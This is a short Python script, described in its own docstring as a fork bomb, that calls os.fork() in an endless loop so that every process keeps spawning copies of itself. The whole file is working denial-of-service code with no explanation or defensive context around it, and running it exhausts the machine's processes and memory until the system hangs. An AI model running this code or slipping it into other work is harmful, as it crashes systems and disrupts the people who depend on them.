"""A fork bomb: every copy forks again, for ever."""

import os

while True:
    os.fork()
